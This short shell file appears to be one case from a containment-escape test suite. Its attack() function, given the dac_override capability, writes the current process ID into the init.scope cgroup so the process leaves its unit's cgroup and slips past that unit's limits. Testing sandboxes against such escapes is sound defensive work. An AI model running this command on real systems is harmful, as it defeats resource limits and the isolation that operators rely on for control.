# moves out of the unit's cgroup, to outlive it and its limits
wall='owner of the cgroups'
ways=bare
caps=dac_override
attack() { echo "$BASHPID" >/sys/fs/cgroup/pids/init.scope/cgroup.procs; }
